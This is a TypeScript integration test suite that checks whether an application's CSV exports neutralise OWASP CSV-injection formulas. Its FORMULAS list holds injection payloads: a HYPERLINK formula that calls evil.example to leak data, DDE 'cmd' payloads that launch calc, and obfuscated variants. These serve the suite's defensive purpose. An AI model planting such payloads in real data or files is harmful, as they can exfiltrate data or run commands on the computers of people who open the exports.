import { Client } from 'pg';
import { Api, TableFixture, unique } from '../support/api';
import { looksLikeFormula, parseCsv } from '../support/csv';
import { routeKeys } from '../support/routes';
import { TestApp } from '../support/test-app';
import { IDENTITY, walkTo } from '../support/situations';
import { openWorld } from '../support/world';

/**
 * OWASP CSV injection on every CSV the server writes (api.md): text that reaches a file, and
 * names of agencies and tables built to be formulas, never leave a cell a spreadsheet would run.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak=1","Click for details")',
  '+1+cmd|" /C calc"!A0',
  '-2+3 review',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\tx =1+2',
  '\rx =1+2',
  '\u200B=1+2 hidden behind a zero-width space',
  '＝1+2 full width',
  'plan;=1+2 after a semicolon',
];

/** Every CSV route of the application: a new one fails the first test until it is attacked here too. */
const CSV_ROUTES = [
  'GET /api/v1/tables/:tableId/audit/export.csv',
  'GET /api/v1/tables/:tableId/reports/rtd-export.csv',
  'GET /api/v1/tables/:tableId/disclosures/export.csv',
  'GET /api/v1/tables/:tableId/reports/annual/:year.csv',
  'GET /api/v1/regions/:regionId/reports/annual/:year.csv',
];

describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
  let t: TestApp;
  let api: Api;
  let f: TableFixture;
  let owner: Client;
  let close: () => Promise<void>;
  let situationId: string;
  const grantedNotes: string[] = [];

  /** An identity read with a stated purpose (code OTHER, the note as given). */
  async function read(token: string, purpose: string): Promise<number> {
    const res = await api.as(token).get(`/situations/${situationId}/identity?purposeCode=OTHER&purpose=${encodeURIComponent(purpose)}`);
    return res.status;
  }

  /** All cells of a CSV answer, header included, as a spreadsheet reads them. */
  /** French files are semicolon-separated (a French header holds semicolons, an English one none). */
  const delimiterOf = (csv: string): ',' | ';' => (csv.split('\n')[0].includes(';') ? ';' : ',');
  const cellsOf = (csv: string) => parseCsv(csv, delimiterOf(csv)).flat();

  beforeAll(async () => {
    ({ t, api, f, owner, close } = await openWorld());
    const admin = api.as(f.admin.token);
    // agencies and tables named as formulas, seated at the table, one of them leading a situation
    const evil: string[] = [];
    for (const [i, name] of FORMULAS.entries()) {
      const agency = await admin.post('/agencies', { name: `${name} ${unique('a')}`, sector: i % 2 ? 'HOUSING' : 'EDUCATION' });
      expect([201, 400]).toContain(agency.status);
      if (agency.status === 201) {
        evil.push(agency.body.id);
        await admin.post(`/tables/${f.tableId}/agencies`, { agencyId: agency.body.id }).expect(201);
      }
      const table = await admin.post('/tables', { name: `${name} ${unique('t')}`, timeZone: 'America/Vancouver' });
      expect([201, 400]).toContain(table.status);
    }
    expect(evil.length).toBeGreaterThanOrEqual(6);
    await admin.patch(`/tables/${f.tableId}`, { name: `${FORMULAS[0]} ${unique('table')}` }).expect(200);

    situationId = await walkTo(api, f, 'ASSIGNED');
    await api.as(f.reps.police.token).put(`/situations/${situationId}/identity`, IDENTITY).expect(204);
    // refused reads (no standing) keep no note; granted ones keep "CODE: note" and the note in details
    for (const purpose of FORMULAS) expect(await read(f.reps.school.token, purpose)).toBe(403);
    for (const purpose of FORMULAS) {
      const status = await read(f.reps.housing.token, purpose);
      expect([200, 400]).toContain(status); // 400: a note too thin to be a purpose
      if (status === 200) grantedNotes.push(purpose.trim());
    }
    expect(await read(f.reps.housing.token, '+1 call back to plan the visit')).toBe(200);

    // a situation led by an agency named as a formula, closed before it was created: days open -3
    const led = await walkTo(api, f, 'ACCEPTED');
    await api
      .as(f.coordinator.token)
      .post(`/situations/${led}/assignment`, { leadAgencyId: evil[1], assistingAgencyIds: [evil[0]] })
      .expect(200);
    // a disclosure to agencies named as formulas (the disclosure register names them)
    await api.as(f.reps.police.token).put(`/situations/${led}/identity`, IDENTITY).expect(204);
    // notes as formulas: a status update and the closure note (neither belongs in a CSV, and neither may run there)
    await api.as(f.coordinator.token).post(`/situations/${led}/updates`, { note: FORMULAS[0] }).expect(201);
    await api.as(f.coordinator.token).post(`/situations/${led}/closure`, { conclusion: 'CONNECTED_TO_SERVICES', consentStatus: 'OBTAINED', note: FORMULAS[3] }).expect(200);
    await owner.query(`UPDATE situations SET closed_at = created_at - interval '3 days' WHERE id = $1`, [led]);
  });
  afterAll(() => close());

  it('attacks every CSV route the application serves', () => {
    expect(
      routeKeys(t.app)
        .filter((k) => /\.csv$/.test(k))
        .sort(),
    ).toEqual([...CSV_ROUTES].sort());
  });

  it('audit export: formula purposes come out as text, and no cell starts a formula', async () => {
    for (const lang of ['en', 'fr']) {
      const res = await api.as(f.privacy.token).get(`/tables/${f.tableId}/audit/export.csv`, { 'accept-language': lang }).expect(200);
      expect(res.text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.text, lang === 'fr' ? ';' : ',');
      const purposes = rows.slice(1).map((r) => r[rows[0].indexOf(lang === 'fr' ? 'Motif de la consultation' : 'purpose')]);
      // the purposes as stored ("CODE: note"), the formula text kept as text
      expect(grantedNotes.length).toBeGreaterThanOrEqual(5);
      for (const p of grantedNotes) expect(purposes).toContain(`OTHER: ${p}`);
      expect(purposes).toContain('OTHER: +1 call back to plan the visit');
      const offenders = cellsOf(res.text).filter(looksLikeFormula);
      expect(offenders).toEqual([]);
      expect(res.text).not.toContain(IDENTITY.familyName);
    }
    // a filter narrows the file, and it is still neutralised
    const denied = await api.as(f.privacy.token).get(`/tables/${f.tableId}/audit/export.csv?outcome=DENIED&situationId=${situationId}`).expect(200);
    expect(parseCsv(denied.text).length - 1).toBe(FORMULAS.length);
    expect(cellsOf(denied.text).filter(looksLikeFormula)).toEqual([]);
  });

  it('RTD export: a negative number and every other cell come out as text', async () => {
    for (const lang of ['en', 'fr']) {
      const res = await api.as(f.coordinator.token).get(`/tables/${f.tableId}/reports/rtd-export.csv`, { 'accept-language': lang }).expect(200);
      expect(res.text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.text, lang === 'fr' ? ';' : ',');
      expect(rows.length).toBeGreaterThanOrEqual(3);
      const daysOpen = rows.slice(1).map((r) => r[r.length - 1]);
      expect(daysOpen).toContain("'-3");
      expect(cellsOf(res.text).filter(looksLikeFormula)).toEqual([]);
      // a list of labels holds semicolons: quoted, so no spreadsheet splits it into new cells
      expect(res.text).toMatch(/"[^"\n;]+; [^"\n]+"/);
    }
  });

  it('disclosure register: agencies named as formulas come out as text, and no cell starts a formula', async () => {
    for (const lang of ['en', 'fr']) {
      const res = await api.as(f.privacy.token).get(`/tables/${f.tableId}/disclosures/export.csv`, { 'accept-language': lang }).expect(200);
      expect(res.text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.text, lang === 'fr' ? ';' : ',');
      expect(rows.length).toBeGreaterThanOrEqual(3);
      expect(cellsOf(res.text).filter(looksLikeFormula)).toEqual([]);
      expect(res.text).not.toContain(IDENTITY.familyName);
    }
  });

  it("annual report: a table named as a formula comes out as text in every row's scope, in both languages", async () => {
    const { rows: before } = await owner.query(`SELECT name FROM situation_tables WHERE id = $1`, [f.tableId]);
    await owner.query(`UPDATE situation_tables SET name = $2 WHERE id = $1`, [f.tableId, FORMULAS[0]]);
    try {
      for (const lang of ['en', 'fr'] as const) {
        const res = await api
          .as(f.coordinator.token)
          .get(`/tables/${f.tableId}/reports/annual/${new Date().getFullYear() - 2}.csv?lang=${lang}`)
          .expect(200);
        expect(res.text.startsWith('\uFEFF')).toBe(true);
        const rows = parseCsv(res.text.replace(/^\uFEFF/, ''), lang === 'fr' ? ';' : ',').slice(1);
        expect(rows.length).toBeGreaterThan(20);
        expect(new Set(rows.map((r) => r[3]))).toEqual(new Set([`'${FORMULAS[0]}`]));
        expect(cellsOf(res.text).filter(looksLikeFormula)).toEqual([]);
      }
    } finally {
      await owner.query(`UPDATE situation_tables SET name = $2 WHERE id = $1`, [f.tableId, before[0].name]);
    }
  });

  it("a region's annual report: the region and its member tables named as formulas come out as text, in both languages", async () => {
    const admin = api.as(f.admin.token);
    const year = new Date().getFullYear() - 2;
    const region = (
      await admin
        .post('/regions', {
          code: `CSV-${unique('r')
            .replace(/[^a-z0-9]/gi, '')
            .toUpperCase()
            .slice(-12)}`,
          nameEn: FORMULAS[0],
          nameFr: FORMULAS[3],
        })
        .expect(201)
    ).body;
    const other = (await admin.post('/tables', { name: `${FORMULAS[1]} ${unique('t')}` }).expect(201)).body;
    // the members of a year long past, as an administrator set them before it began (the API refuses a year begun)
    await owner.query('INSERT INTO region_tables (region_id, table_id, year) VALUES ($1, $2, $4), ($1, $3, $4)', [region.id, f.tableId, other.id, year]);
    for (const lang of ['en', 'fr'] as const) {
      const res = await admin.get(`/regions/${region.id}/reports/annual/${year}.csv?lang=${lang}`).expect(200);
      const rows = parseCsv(res.text.replace(/^\uFEFF/, ''), lang === 'fr' ? ';' : ',').slice(1);
      expect(rows.length).toBeGreaterThan(20);
      // the scope column: the region's name, or a member table's in the members' rows, each as text
      const scopes = new Set(rows.map((r) => r[3]));
      expect(scopes.has(`'${lang === 'fr' ? FORMULAS[3] : FORMULAS[0]}`)).toBe(true);
      expect([...scopes].some((x) => x.startsWith(`'${FORMULAS[1]}`))).toBe(true);
      expect(cellsOf(res.text).filter(looksLikeFormula)).toEqual([]);
    }
  });

  it('the names of agencies and tables reach no CSV unneutralised', async () => {
    const files = [
      (await api.as(f.privacy.token).get(`/tables/${f.tableId}/disclosures/export.csv`).expect(200)).text,
      (await api.as(f.privacy.token).get(`/tables/${f.tableId}/audit/export.csv`).expect(200)).text,
      (await api.as(f.privacy.token).get(`/tables/${f.tableId}/reports/rtd-export.csv`).expect(200)).text,
    ];
    for (const text of files) {
      for (const cell of cellsOf(text)) {
        expect(looksLikeFormula(cell)).toBe(false);
        for (const name of FORMULAS) if (looksLikeFormula(name.trim())) expect(cell.startsWith(name.trim())).toBe(false);
      }
    }
  });
});
